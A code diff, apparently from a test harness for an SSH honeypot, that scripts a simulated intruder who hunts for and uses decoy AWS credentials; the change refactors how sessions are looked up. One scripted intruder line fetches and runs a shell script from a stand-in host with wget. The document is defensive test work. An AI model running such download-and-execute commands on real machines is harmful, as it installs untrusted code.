@@ -1,6 +1,6 @@
-import type { Chain, Step } from './chain.ts';
+import { type Chain, keyOf, type Step } from './chain.ts';
 import { enterBySsh } from './play-ssh.ts';
-import { answerWithin, type Door } from './played.ts';
+import { answerWithin, type Caller, type Door } from './played.ts';
 
 /** Grave, and looking for cloud keys: what the shipped policy answers with AWS credentials. Nothing can be fetched there. */
 const firstLines = ['cd /tmp; wget -q http://192.0.2.66/kits/again.sh; chmod +x again.sh; ./again.sh'];
@@ -30,7 +30,7 @@ export async function playSpy(parts: SpyParts): Promise<readonly Step[]> {
     for (const line of firstLines) await answerWithin(reader.shell.type(line));
     const askedMs = now();
     const early = secretIn(await answerWithin(reader.shell.type(askLine)));
-    const session = await findSession(chain, reader.localPort);
+    const session = await findSession(chain, { ...door, ...reader });
     if (typeof session !== 'string') return [session];
     const decided = await chain.decided(session, askedMs);
     if (!decided.ok) return [decided];
@@ -76,7 +76,7 @@ async function useSecret({ door, login, chain, now, signal }: SpyParts, { id, se
   const usedMs = now();
   if (user.shell) await answerWithin(user.shell.type(`aws configure set aws_access_key_id ${id}`));
   await user.leave();
-  const session = await findSession(chain, user.localPort);
+  const session = await findSession(chain, { ...door, ...user });
   return typeof session === 'string' ? await chain.touched(session, usedMs) : session;
 }
 
@@ -88,10 +88,10 @@ export function secretIn(text: string): ReadSecret | null {
   return id !== undefined && secret !== undefined ? { id, secret } : null;
 }
 
-async function findSession(chain: Chain, port: number): Promise<string | Step> {
+async function findSession(chain: Chain, caller: Caller): Promise<string | Step> {
   let session: string | undefined;
   const seen = await chain.await('seen', 'the session of the visitor who looks for keys', 0, async () => {
-    session = (await chain.findSessions([port])).get(port);
+    session = (await chain.findSessions([caller])).get(keyOf(caller));
     return { done: session !== undefined, came: session ?? 'no session' };
   });
   return session ?? { ...seen, tookMs: 0 };
